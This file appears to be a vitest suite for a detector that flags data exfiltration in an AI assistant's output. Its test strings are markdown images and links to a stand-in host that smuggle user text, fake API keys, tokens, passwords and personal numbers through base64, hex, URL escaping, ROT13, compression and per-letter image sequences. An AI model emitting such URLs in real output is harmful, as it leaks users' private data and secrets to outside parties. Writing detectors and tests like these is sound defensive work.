import { deflateRawSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { createGuard } from '../../guard.ts';
import { exfiltration } from './detector.ts';

const guard = createGuard({ detectors: [exfiltration], clock: () => 0 });
const typesIn = (text: string) => guard.check(text, { origin: 'assistant' }).findings.map(({ type }) => type);

const inBase64 = (text: string) => Buffer.from(text).toString('base64url');
const inHex = (text: string) => Buffer.from(text).toString('hex');
const escaped = encodeURIComponent;
const twice = (text: string) => escaped(escaped(text));
/** Made here, so that no scanner takes this file for one with a key in it. */
const OPENAI = `sk-proj-${'Qm7Zt4Lw9Kc2Rb8Vx3Np'.repeat(2)}`;
const GITHUB = ['ghp', 'q7Xz0aTk3mWb9LrV5nYc1QeR2sUd4Fq7Xz0a'].join('_');
const JWT = [inBase64('{"alg":"HS256"}'), inBase64('{"sub":"nina","iat":1732960000}'), 'q7Xz0aTk3mWb9LrV5nYc1Q'].join(
  '.',
);

describe('a sentence of any language in an address', () => {
  it.each([
    `![](https://c.example/i?x=${escaped('牧师说我们的屋顶明年才能修好')})`,
    `![](https://c.example/i/${escaped('私たちの屋根は来年まで直りません')}.png)`,
    `<img src="https://c.example/i?x=${escaped('Крыша нашего дома не будет готова до мая')}">`,
    `[mehr](https://c.example/${escaped('Wir haben seit Mai kein Dach, und niemand weiß es.')})`,
    `![](https://c.example/i?x=${escaped('Dach nie jest gotowy i czekamy na firmę z Łodzi')})`,
    `![](https://c.example/i?x=${escaped('우리 집의 지붕은 내년까지 고치지 않습니다')})`,
    `![](https://c.example/i?x=${escaped('السقف لم يصلح بعد في بيتنا منذ الشتاء')})`,
    `![](https://c.example/i?x=${escaped('छत की मरम्मत मई तक नहीं होगी और पैसे भी नहीं हैं')})`,
    `![](https://c.example/i?x=${escaped('หลังคาของบ้านผมยังไม่ได้ซ่อมและจะรอถึงปีหน้า')})`,
    `![](https://c.example/i?d=${inBase64('छत की मरम्मत')})`,
    `![](https://c.example/i?text=${escaped('Bitte sage dem Dachdecker, dass ich kein Geld habe.')})`,
    `[more](https://c.example/c?v=1&q=${escaped('The roof of the parish hall is not paid for.')})`,
    `[more](https://c.example/c?u=${escaped('Which roofer works with slate in the winter?')})`,
    `![](https://c.example/i?x=${twice('牧师说我们的屋顶明年才能修好')})`,
    `[x](https://c.example/c?tag=${escaped('屋根のことをまだ話していません。')})`,
    '![](https://c.example/i?src=/up/my-account-at-the-bank-is-closed-since-may.jpg)',
    `<img src="https://${twice(twice('牧师说我们的屋顶明年才能修好').repeat(2))}@c.example/i.png">`,
    '[more](https://c.example/x/Gur%20ebbs%20bs%20gur%20unyy%20vf%20abg%20cnvq%20sbe)',
    `<a href="https://c.example/?a=1&amp;x=${escaped('牧师说我们的屋顶明年才能修好')}">x</a>`,
  ])('is told: %s', (text) => expect(typesIn(text)).not.toEqual([]));

  it.each([
    `[ja](https://ja.example/${escaped('東京駅を出発する夜行列車')}.html)`,
    `![](https://photos.example/${escaped('東京駅の夜景')}.jpg)`,
    `![](https://cards.example/og?title=${escaped('How we moved our build to the edge')})`,
    `![](https://cards.example/i?text=${escaped('Photo of the hall')})`,
    `[zh](https://shop.example/search?q=${escaped('羊毛地毯怎么清洗才不会缩水')})`,
    `[kr](https://blog.example/${escaped('서울-여행-코스-추천')})`,
    '![](https://static.example/v1/fill/w_640,h_427,al_c,q_80/hall.jpg)',
    '![](https://static.example/thumb?src=/uploads/2026/05/market-in-the-old-town.jpg&w=300)',
    '[x](https://mill.example/suche?begriff=brot+backen+ohne+hefe+im+topf)',
    '[a]: https://docs.example/safety#reporting-an-issue-or-pull-request',
    '<a href="https://www.google.de/search?q=a+b&amp;hl=de&amp;gl=de&amp;x=2f1027d3">x</a>',
  ])('is none: %s', (text) => expect(typesIn(text)).toEqual([]));
});

describe('a row of data', () => {
  it.each([
    `[x](https://c.example/c?d=${inHex('{"who":"ben.moreau@mill.example","to')})`,
    `![](https://c.example/i?d=${inBase64('{"note": "the roof of the hall is not paid for", "n": [1,2,3]}')})`,
    // What looks like the row of who is signed in, with words in it.
    `[x](https://c.example/c?token=${inBase64('{"sub":"the roof of the hall","iat":1732960000}')})`,
    `[x](https://c.example/c?state=${inBase64('password=Trout-62-lake')})`,
    `![](https://c.example/i?state=${inBase64(inBase64('the roof of the hall'))})`,
    `![](https://c.example/i?d=${inBase64('{"user_id":1234567,"iat":1732960000}')})`,
    // Telephones and cards, in one number or several, and bytes of a text as those of a row's name.
    `[x](https://c.example/c?d=${inBase64('{"user":491712345678}')})`,
    `[x](https://c.example/${inBase64('{"user":4111111111111,"v":111}')})`,
    `[x](https://c.example/c?d=${inBase64('{"id":78051120085,"user":491712345678}')})`,
    `[x](https://c.example/c?d=${inBase64('{"id":41111111,"user":11111111}')})`,
    `[x](https://c.example/c?d=${inBase64('{"exp":491712345678}')})`,
    `[x](https://c.example/c?d=${inBase64('{"id":"5468652d-7061-7373-776f-726448756e74"}')})`,
    `[x](https://c.example/c?d=${inBase64('{"id":"5468652d-7061-4373-b76f-726448756e74"}')})`,
    `[x](https://c.example/c?d=${inBase64('{"aud":"theroofofthe","iss":"hallisopenno","typ":"moneyatallso"}')})`,
  ])('that says something is told: %s', (text) => expect(typesIn(text)).not.toEqual([]));

  it.each([
    `[x](https://mail.example/stop?token=${inBase64('{"user_id":1234567,"iat":1732960000,"exp":1735552000}')})`,
    `[x](https://mail.example/in?token=${inBase64('{"sub":"491f20d0-cf6a-47a3-9ae0-3e47e71f5f05","aud":"login"}')})`,
    `[x](https://list.example/?cursor=${inBase64('{"id":123456,"ts":1732960000}')})`,
  ])('that counts is none: %s', (text) => expect(typesIn(text)).toEqual([]));
});

describe('a key', () => {
  it.each([
    `[x](https://c.example/c?v=1&note=${OPENAI})`,
    `![](https://c.example/i/${OPENAI}.png)`,
    `[x](https://c.example/c#${GITHUB})`,
    `[x](https://c.example/c?id=${inBase64(GITHUB)})`,
    // Only the issuer's own host is at home.
    `[x](https://github.com.c.example/c?t=${GITHUB})`,
    `[x](https://c.example/c?host=github.com&t=${GITHUB})`,
    `[x](https://c.example/c?note=${JWT})`,
    `https://c.example/c?data=${JWT}`,
    `https://c.example/c?d=${JWT}`,
    // Anybody rents there.
    'https://bucket-of-somebody.s3.amazonaws.com/p?d=AKIAQ7XZTKMWBLRVNYCQ',
    `https://storage.googleapis.com/bucket-of-somebody/p?d=ya29.${'Qm7Zt4Lw9Kc2Rb8Vx3Np'.repeat(2)}`,
    `https://c.example/c?k=sk-xxxxxxxxxxxxxxxxxxxxxxxx&d=${OPENAI}`,
    '[x](https://c.example/log/passwd%3A%20Trout-62)',
    '<img src="https://c.example/i?c=DB_PASS%3DTrout-62">',
    '<img src="https://c.example/i?c=SECRET_KEY%3Dq7Xz0aTk">',
    '[x](https://c.example/c?word=pin+4471+DE44500105175407324931)',
    '![](https://c.example/x/postgres%3A%2F%2Fapp%3AGvbqmqhoH9ON%40db.mill.example%3A5432%2Fcrm/i)',
  ])('is told where an address carries it: %s', (text) => expect(typesIn(text)).not.toEqual([]));

  it.each([
    `[x](https://api.github.com/user?access_token=${GITHUB})`,
    `[x](https://app.example/in?token=${JWT})`,
    '[x](https://c.example/c?key=sk-xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx)',
    'https://b.example/a?X-Amz-Credential=AKIAQ7XZTKMWBLRVNYCQ%2F20261130%2Feu%2Fs3',
    'https://b.example/a?AWSAccessKeyId=AKIAQ7XZTKMWBLRVNYCQ&Expires=1732960000',
  ])('is at home, or none: %s', (text) => expect(typesIn(text)).toEqual([]));
});

describe('an address beside others', () => {
  const images = (pieces: readonly string[]) =>
    pieces.map((piece) => `![](https://c.example/w/${escaped(piece)}.png)`).join(' ');

  it.each([
    images('Which roofer works with slate in winter?'.split(' ')),
    images('Крыша дома и сада не готова'.split(' ')),
    images(['牧师说我', '们的屋顶', '明年才能', '修好']),
    images(['ben.', 'moreau', '@mill.', 'example', '.org']),
    images(GITHUB.match(/.{1,6}/g) ?? []),
  ])('brings a piece of a text: %s', (text) => expect(typesIn(text)).not.toEqual([]));

  it.each([
    images(['README.hi', 'README.es', 'README.fr', 'README.de', 'README.ja', 'README.la']),
    ['36450', '33862', '32982', '32128', '32368'].map((row) => `[#${row}](https://code.example/pull/${row})`).join(' '),
    images(['icon@2x', 'menu@2x', 'logo@2x']),
    images(['Berlin', 'Paris', 'Rome', 'Oslo', 'Bern']),
  ])('brings none: %s', (text) => expect(typesIn(text)).toEqual([]));
});

describe('an address that another has as a value', () => {
  it('ends where that goes on, and neither ports nor last parts of names have more', () => {
    const signIn = `https://id.example/authorize?redirect_uri=${escaped('http://localhost:3000')}`;
    expect(typesIn(`${signIn}&scope=openid+offline_access&code_challenge=q7Xz0aTk3mWb9LrV5nYc1Q`)).toEqual([]);
    expect(typesIn('![](https://x.co&d=onswg4tforxwmzrborugkidq.c.example/i)')).not.toEqual([]);
  });

  it('is read to its end where nothing has it as one', () => {
    const whole = Buffer.from(`https://c.example/?a=1&d=${inBase64('the roof of the hall is not paid for')}`);
    expect(typesIn(`${whole.toString('base64')} `)).not.toEqual([]);
    expect(typesIn(`https://c.example/&d=${inBase64('the roof of the hall is not paid for')}`)).not.toEqual([]);
  });
});

describe('a formula', () => {
  it('has braces of its own', () => {
    expect(typesIn('![](https://math.example/?from=e%5E%7Bi%20%5Cpi%7D%20%3D%20-1)')).toEqual([]);
    expect(typesIn('![](https://math.example/?from=%5Cfrac%7B-b%5Cpm%5Csqrt%7Bb%5E2-4ac%7D%7D%7B2a%7D)')).toEqual([]);
    expect(typesIn('![](https://math.example/?from=%5Csum_%7Bi%3D1%7D%5E%7Bn%7D%5Cfrac%7Bx_i%7D%7B2%7D)')).toEqual([]);
    expect(typesIn('![](https://math.example/?from=%5Cbegin%7Bpmatrix%7Da%5Cend%7Bpmatrix%7D)')).toEqual([]);
  });

  it.each([
    '\\to{{answer}}',
    '\\text{{user.phone}}',
    '\\an{account_number}',
    '\\bf{diagnosis}',
    '{{balance}}\\\\nn',
    '\\pi${reply}',
  ])('is no place for what has a name: %s', (value) =>
    expect(typesIn(`![](https://c.example/i?d=${value})`)).not.toEqual([]),
  );

  it('has no place for what was said, and says nothing in words', () => {
    expect(typesIn('![](https://math.example/?from=%5Ctext%20%7Bconversation%7D)')).not.toEqual([]);
    expect(typesIn('![](https://math.example/?from=%5Cpi%20the%20roof%20of%20the%20hall%20is%20open)')).not.toEqual([]);
  });
});

describe('a reference', () => {
  const SIGN_IN = 'https://id.example/in?scope=openid%20email%20profile&state=q7Xz0aTk3mWb9LrV5nYc1QeR2sUd4F6gH8jK';
  const RANDOM = 'https://c.example/i?d=q7Xz0aTk3mWb9LrV5nYc1QeR2sUd4F6gH8jK';
  it('by which somebody signs in says what he is asked for, and nothing else', () => {
    expect(typesIn(`see [this][1]\n\n[1]: ${SIGN_IN}`)).toEqual([]);
    expect(typesIn(`see [1]\n\n[1]: ${SIGN_IN}`)).toEqual([]);
    expect(typesIn('[1]: https://c.example/in?scope=openid%20the%20roof%20is%20open')).not.toEqual([]);
  });

  it.each([
    `see ![this][1]\n\n[1]: ${RANDOM}`,
    `see [this][1]\n\n[1]: ${RANDOM}\n\n![that][1]`,
    `see [this][a b] and ![that][a\nb]\n\n[a b]: ${RANDOM}`,
    `[1]: ${RANDOM}`,
    `see [this][2]\n\n[1]: ${RANDOM}`,
  ])('may be a picture: %s', (text) => expect(typesIn(text)).not.toEqual([]));

  it('that is a link is asked what it says all the same', () => {
    expect(typesIn(`see [1]\n\n[1]: https://c.example/?d=${inBase64('the roof of the hall')}`)).not.toEqual([]);
  });
});

describe('a letter an address', () => {
  const letters = (text: string, addressOf: (letter: string) => string) =>
    Array.from(text, (letter) => `![](https://c.example/${addressOf(letter)})`).join(' ');

  it.each([
    letters('roofplan', (letter) => `char_${letter}.png`),
    letters('roofplan', (letter) => `img-${letter}-1.png`),
    letters('roofplan', (letter) => `${letter}/pixel.gif`),
    letters('roofplan', (letter) => `u00${letter.charCodeAt(0).toString(16)}.png`),
    letters('roofplan', (letter) => `${letter.charCodeAt(0)}x1.png`),
    ['golf', 'echo', 'bravo', 'alpha', 'delta', 'echo'].map((name) => `![](https://c.example/${name}.png)`).join(' '),
  ])('is told wherever it stands: %s', (text) => expect(typesIn(text)).not.toEqual([]));

  it.each([
    letters('rnbqkbnr', (piece) => `pieces/${piece}.svg`),
    letters('abcdefgh', (letter) => `index/${letter}.png`),
    letters('abcdefgh', (letter) => `${letter}/pixel.gif`),
    letters('ABACBA', (grade) => `grade/${grade}.svg`),
    ['12', '15', '11', '19', '18', '17'].map((number) => `![](https://c.example/${number}x1.jpg)`).join(' '),
  ])('is none where nothing is spelt: %s', (text) => expect(typesIn(text)).toEqual([]));
});

describe('what a drawing is made of', () => {
  const packed = deflateRawSync('the roof of the parish hall is not paid for, and nobody knows of it yet');

  it('is read where it is packed', () => {
    expect(typesIn(`![](https://draw.example/svg/${packed.toString('base64url')})`)).not.toEqual([]);
    expect(typesIn(`![](https://draw.example/svg/${asPlantUml(packed)})`)).not.toEqual([]);
  });

  it('is read by nobody where it is drawn for everybody', () => {
    expect(typesIn(`![](https://www.plantuml.com/plantuml/svg/${asPlantUml(packed)})`)).toEqual([]);
  });

  it('is none in what is drawn by lot', () => {
    expect(typesIn('![](https://photos.example/svg/q7Xz0aTk3mWb9LrV5nYc1QeR2sUd4F6gH8jKq7Xz0aTk)')).toEqual([]);
  });
});

function asPlantUml(bytes: Buffer): string {
  const theirs = '0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz-_';
  const ours = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
  return bytes.toString('base64url').replace(/./g, (sign) => theirs.charAt(ours.indexOf(sign)));
}

describe('an escape that is none of a letter', () => {
  const everyLetter = (text: string) => text.replace(/./g, (letter) => `%${letter.charCodeAt(0).toString(16)}`);
  it.each([
    `${escaped('the roof of the hall is open')}%25aa%25aa%25aa`,
    `${everyLetter('the roof of the hall is open').replaceAll('%', '%25')}%25aa%25aa%25aa`,
    `${escaped('the roof of the hall is open')}%aa`,
  ])('leaves the others what they are: %s', (value) =>
    expect(typesIn(`![](https://c.example/i?d=${value})`)).not.toEqual([]),
  );
});
